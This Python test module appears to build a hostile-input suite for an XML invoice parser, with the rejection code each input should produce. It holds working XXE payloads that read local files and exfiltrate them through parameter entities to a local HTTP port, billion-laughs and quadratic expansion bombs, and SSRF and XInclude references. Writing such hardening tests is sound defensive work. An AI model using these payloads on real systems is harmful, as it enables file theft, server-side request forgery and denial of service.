"""X1 to X5: documents that declare, expand or point at what they should not."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from support.attacks import Attack
from support.family import NAMESPACE, document, invoice

VALID = document(invoice(1), invoice(2))
DOCTYPE, SIZE, ENCODING, CUT = "HOSTILE_DOCTYPE", "HOSTILE_SIZE", "HOSTILE_ENCODING", "NOT_WELL_FORMED"
SECRET = "canari-du-fichier"  # what lies in the file that documents point at


def note(inside: str) -> str:
    """A document with anything at all in the one place where the schema looks away."""
    return document(invoice(1), invoice(2, rest=f"<note>{inside}</note>"))


def declaring(subset: str, use: str = "", *, head: str = "") -> str:
    """A document with an internal subset, and an entity used in a value."""
    body = VALID.replace("<no>2</no>", f"<no>{use or 2}</no>")
    return f'<?xml version="1.0"{head}?>\n<!DOCTYPE lot [{subset}]>\n{body}'


def external(bait: str) -> Iterator[Attack]:
    """X1. `bait`: the path of a file that holds SECRET."""
    targets = {
        "path": bait,
        "file": f"file://{bait}",
        "file, upper case": f"FILE://{bait}",
        "file, localhost": f"file://localhost{bait}",
        "http": "http://127.0.0.1:9/x",
        "https": "https://127.0.0.1:9/x",
        "ftp": "ftp://127.0.0.1:9/x",
        "UNC": "\\\\127.0.0.1\\share\\x",
        "UNC with slashes": "//127.0.0.1/share/x",
        "data": "data:text/plain,canari",
        "jar": f"jar:file://{bait}!/x",
        "php": f"php://filter/read=string.rot13/resource={bait}",
        "expect": "expect://id",
        "percent": f"file://{bait.replace('a', '%61')}",
        "relative": "../../../../../../etc/hostname",
        "empty": "",
    }
    for name, target in targets.items():
        yield Attack("X1", name, lambda t=target: declaring(f'<!ENTITY x SYSTEM "{t}">', "&x;"), DOCTYPE)
    more: dict[str, Callable[[], str | bytes]] = {
        "public": lambda: declaring(f'<!ENTITY x PUBLIC "-//x" "file://{bait}">', "&x;"),
        "parameter": lambda: declaring(f'<!ENTITY % p SYSTEM "file://{bait}"> %p;'),
        "carried away": lambda: declaring(
            f'<!ENTITY % a SYSTEM "file://{bait}"><!ENTITY % b "<!ENTITY &#37; c SYSTEM \'http://127.0.0.1:9/?%a;\'>">'
            "%b;%c;"
        ),
        "by a declared error": lambda: declaring(
            f'<!ENTITY % a SYSTEM "file://{bait}"><!ENTITY % b "<!ENTITY &#37; c SYSTEM \'file:///x/%a;\'>">%b;%c;'
        ),
        "in an attribute": lambda: declaring(f'<!ENTITY x SYSTEM "file://{bait}">').replace('serie="S"', 'serie="&x;"'),
        "unparsed": lambda: declaring(f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file://{bait}" NDATA n>'),
        "standalone": lambda: declaring(f'<!ENTITY x SYSTEM "{bait}">', "&x;", head=' standalone="yes"'),
        "UTF-16": lambda: declaring(f'<!ENTITY x SYSTEM "{bait}">', "&x;", head=' encoding="UTF-16"').encode("utf-16"),
        "marked": lambda: declaring(f'<!ENTITY x SYSTEM "{bait}">', "&x;").encode("utf-8-sig"),
    }
    yield from (Attack("X1", name, make, DOCTYPE) for name, make in more.items())


def expanding() -> Iterator[Attack]:
    """X2: small documents that would become large ones."""
    laughs = '<!ENTITY l0 "lol">' + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    makes: dict[str, Callable[[], str]] = {
        "billion laughs": lambda: declaring(laughs, "&l11;"),
        "laughs in an attribute": lambda: declaring(laughs).replace('serie="S"', 'serie="&l11;"'),
        "laughs nobody uses": lambda: declaring(laughs),
        "quadratic": lambda: declaring(f"<!ENTITY q '{'q' * 50_000}'>", "&q;" * 50_000),
        "parameter laughs": lambda: declaring(
            "<!ENTITY % a '<!ENTITY b \"b\">'>" + "".join(f"<!ENTITY % a{n} '%a;%a;'>" for n in range(50)) + "%a49;"
        ),
        "of itself": lambda: declaring('<!ENTITY a "&a;">', "&a;"),
        "in a circle": lambda: declaring('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "defaults": lambda: declaring(f'<!ATTLIST ligne n CDATA "{"1" * 100_000}">'),
        "subset of 1 MB": lambda: declaring("<!ENTITY a 'a'>" * 66_000),
        "subset of comments": lambda: declaring("<!-- c -->" * 110_000),
        "one value of 1 MB": lambda: declaring(f"<!ENTITY a '{'a' * (1 << 20)}'>", "&a;"),
        "subset of spaces": lambda: declaring(" " * 900_000 + "<!ENTITY a 'a'>", "&a;"),
        "ten thousand elements": lambda: declaring("".join(f"<!ELEMENT e{n} ANY>" for n in range(10_000))),
    }
    return (Attack("X2", name, make, DOCTYPE) for name, make in makes.items())


def declarations() -> Iterator[Attack]:
    """X3: any DOCTYPE at all; and what only looks like one."""
    refused = {
        "bare": "<!DOCTYPE lot>",
        "with an empty subset": "<!DOCTYPE lot []>",
        "of another root": "<!DOCTYPE autre>",
        "system": '<!DOCTYPE lot SYSTEM "lot.dtd">',
        "public": '<!DOCTYPE lot PUBLIC "-//essai//lot" "lot.dtd">',
        "after a comment": "<!-- c -->\n<!DOCTYPE lot>",
        "after an instruction": "<?p i?><!DOCTYPE lot>",
        "far away": f"<!--{'c' * 300_000}--><!DOCTYPE lot>",
        "across lines": "<!DOCTYPE\n\n\tlot\r\n>",
        "across blocks": f"{' ' * 4090}<!DOCTYPE lot>",
        "twice": "<!DOCTYPE lot><!DOCTYPE lot>",
    }
    for name, doctype in refused.items():
        yield Attack("X3", name, lambda d=doctype: f"<?xml version='1.0'?>{d}{VALID}", DOCTYPE)
    yield Attack("X3", "in small letters", lambda: f"<?xml version='1.0'?><!doctype lot>{VALID}", CUT)
    yield Attack("X3", "inside the root", lambda: note("<!DOCTYPE lot>"), CUT)
    yield Attack("X3", "after the root", lambda: f"{VALID}<!DOCTYPE lot>", CUT)


def pointing(bait: str, port: int) -> Iterator[Attack]:
    """X4: documents that name other resources. `bait` is a file, `port` listens here; neither may be touched."""
    there = f"http://127.0.0.1:{port}/x"
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield Attack("X4", "DTD by http", lambda: f'<!DOCTYPE lot SYSTEM "{there}">{VALID}', DOCTYPE)
    yield Attack("X4", "DTD by file", lambda: f'<!DOCTYPE lot SYSTEM "file://{bait}">{VALID}', DOCTYPE)
    yield Attack("X4", "DTD by public name", lambda: f'<!DOCTYPE lot PUBLIC "-//x" "{there}">{VALID}', DOCTYPE)
    for where, target in (("file", f"file://{bait}"), ("http", there)):
        located = f' {xsi} xsi:schemaLocation="{NAMESPACE} {target}"'
        bare = f' {xsi} xsi:noNamespaceSchemaLocation="{target}"'
        other = f' {xsi} xsi:schemaLocation="urn:autre {target}"'
        inside = {
            "schema import": f'<xs:import xmlns:xs="http://www.w3.org/2001/XMLSchema" schemaLocation="{target}"/>',
            "schema of a part": f'<a {xsi} xsi:schemaLocation="urn:a {target}" xmlns="urn:a"/>',
            "link": f'<a xmlns:l="http://www.w3.org/1999/xlink" l:href="{target}" l:actuate="onLoad" src="{target}"/>',
            "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{target}"?><a/>',
        }
        before = {
            "xml-model": f'<?xml-model href="{target}"?>',
            "xml-stylesheet": f'<?xml-stylesheet type="text/xsl" href="{target}"?>',
            "catalog": f'<?oasis-xml-catalog catalog="{target}"?>',
        }
        yield Attack("X4", f"schema by {where}", lambda a=located: document(invoice(1), attributes=a))
        yield Attack("X4", f"schema without namespace by {where}", lambda a=bare: document(invoice(1), attributes=a))
        yield Attack("X4", f"schema of another by {where}", lambda a=other: document(invoice(1), attributes=a))
        for name, text in inside.items():
            yield Attack("X4", f"{name} by {where}", lambda t=text: note(t))
        for name, text in before.items():
            yield Attack("X4", f"{name} by {where}", lambda t=text: t + VALID)


def including(bait: str) -> Iterator[Attack]:
    """X5: XInclude and xml:base are names like any other."""
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    parts = {
        "text": f'<xi:include {xi} href="{bait}" parse="text"/>',
        "xml": f'<xi:include {xi} href="file://{bait}"/>',
        "fallback": f'<xi:include {xi} href="/nowhere"><xi:fallback><a/></xi:fallback></xi:include>',
        "pointer": f'<xi:include {xi} xpointer="xpointer(/*)"/>',
        "old name": f'<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{bait}"/>',
        "base": f'<a xml:base="file:///etc/"><xi:include {xi} href="hostname" parse="text"/></a>',
        "endless": f'<xi:include {xi} href=""/>',
    }
    for name, text in parts.items():
        yield Attack("X5", name, lambda t=text: note(t))
    yield Attack("X5", "as a value", lambda: VALID.replace("<no>2</no>", f"<no>{parts['text']}</no>"), "SCHEMA_ELEMENT")
    yield Attack("X5", "as the root", lambda: f'<xi:include {xi} href="{bait}"/>', "UNKNOWN_DOCUMENT")


def honest() -> Iterator[Attack]:
    """What looks like any of these and is right: it must be let in."""
    twins: dict[str, dict[str, str]] = {
        "X1": {
            "in a comment": f'<!-- <!DOCTYPE lot [<!ENTITY x SYSTEM "a">]> -->{VALID}',
            "known entities": VALID.replace("Tremblay-Canari", "&lt;&amp;&gt;&quot;&apos;"),
        },
        "X2": {"references": VALID.replace("Tremblay-Canari", "&#65;&#x42;" * 10)},
        "X3": {
            "as text": note("<a><![CDATA[<!DOCTYPE lot>]]></a>"),
            "in an instruction": f"<?p <!DOCTYPE lot>?>{VALID}",
            "a long beginning": f"<?xml version='1.0'?>{' ' * 500_000}{VALID}",
        },
        "X4": {"an address as text": note("<a>http://127.0.0.1:9/x</a>")},
        "X5": {"an element called include": note('<include href="x"/>')},
    }
    for family, texts in twins.items():
        yield from (Attack(family, name, lambda t=text: t) for name, text in texts.items())
